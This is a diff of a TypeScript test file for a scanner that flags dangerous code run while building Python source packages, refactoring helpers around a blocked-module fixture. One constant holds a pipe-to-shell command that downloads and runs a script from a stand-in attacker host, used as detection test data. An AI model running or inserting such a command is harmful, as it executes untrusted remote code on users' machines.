@@ -1,33 +1,20 @@
-import { memorySource } from '../../src/archive/memory-source.js';
-import { inspect } from '../../src/inspect.js';
 import type { Inspection } from '../../src/model/inspection.js';
-import type { Python } from '../../src/python/parser.js';
-import { BLOCKED_CODE } from '../support/own-packages.js';
+import { graveFindings, inspectPacked } from '../support/inspected.js';
+import { BLOCKED_MODULE } from '../support/own-packages.js';
 import { packSdist, type FileSet } from '../support/pack.js';
-import { loadTestPython } from '../support/python.js';
 
-let python: Python;
-beforeAll(async () => {
-  python = await loadTestPython();
-});
-
-const BAD = `import os\n${BLOCKED_CODE}\n`;
-const LINE = BAD.trim().replaceAll('\n', '; ');
+const LINE = BLOCKED_MODULE.trim().replaceAll('\n', '; ');
 const FETCH = 'curl https://evil.invalid/x | sh';
 
 function read(backend: string, files: FileSet): Promise<Inspection> {
   const pyproject = `[build-system]\nrequires = []\nbuild-backend = "${backend}"\n`;
-  const { bytes, filename } = packSdist(
-    { 'outer/__init__.py': '', 'pyproject.toml': pyproject, ...files },
-    { name: 'outer', version: '1.0' },
-  );
-  return inspect(memorySource(bytes), filename, python);
+  const whole = { 'outer/__init__.py': '', 'pyproject.toml': pyproject, ...files };
+  return inspectPacked(packSdist(whole, { name: 'outer', version: '1.0' }));
 }
 
-const blocked = ({ findings }: Inspection): string[] =>
-  findings
-    .filter(({ score }) => score >= 0.7)
-    .map(({ file, line, reach }) => `${reach ?? ''} ${file ?? ''}:${line ?? ''}`);
+/** When the code of each grave finding runs, and in which line it is. */
+const graveLines = (inspection: Inspection): string[] =>
+  graveFindings(inspection).map(({ file, line, reach }) => `${reach ?? ''} ${file ?? ''}:${line ?? ''}`);
 
 const STARTED = 'install outer-1.0/tools/gen.py:3';
 const [MESON, CMAKE, MATURIN] = ['mesonpy', 'scikit_build_core.build', 'maturin'];
@@ -173,9 +160,9 @@ test.each<[string, string, FileSet, string]>([
     'install outer-1.0/crates/a/build.rs:2',
   ],
 ])('%s of a recipe of %s', async (_, backend, files, place) => {
-  expect(blocked(await read(backend, { 'tools/gen.py': BAD, ...files }))).toContain(place);
+  expect(graveLines(await read(backend, { 'tools/gen.py': BLOCKED_MODULE, ...files }))).toContain(place);
   const harmless = await read(backend, { ...files, 'tools/gen.py': 'print(1)\n' });
-  if (place === STARTED) expect([blocked(harmless), harmless.unscanned]).toEqual([[], []]);
+  if (place === STARTED) expect([graveLines(harmless), harmless.unscanned]).toEqual([[], []]);
 });
 
 test('what recipes install or test is not started, and neither are recipes that no build goes through', async () => {
@@ -183,11 +170,14 @@ test('what recipes install or test is not started, and neither are recipes that 
     'meson.build':
       "py.install_sources(['outer/a.py', 'tools/gen.py'])\n# run_command(py, 'tools/gen.py')\ntest('a', py, args: 'tools/gen.py')\n",
     'examples/meson.build': "run_command(py, '../tools/gen.py')\n",
-    'tools/gen.py': BAD,
+    'tools/gen.py': BLOCKED_MODULE,
   };
-  expect(blocked(await read('mesonpy', files))).toEqual([]);
-  const other = { 'CMakeLists.txt': 'execute_process(COMMAND python3 tools/gen.py)\n', 'tools/gen.py': BAD };
-  expect(blocked(await read('hatchling.build', other))).toEqual([]);
+  expect(graveLines(await read('mesonpy', files))).toEqual([]);
+  const other = {
+    'CMakeLists.txt': 'execute_process(COMMAND python3 tools/gen.py)\n',
+    'tools/gen.py': BLOCKED_MODULE,
+  };
+  expect(graveLines(await read('hatchling.build', other))).toEqual([]);
 });
 
 test('recipes that are long or odd are read in time', async () => {
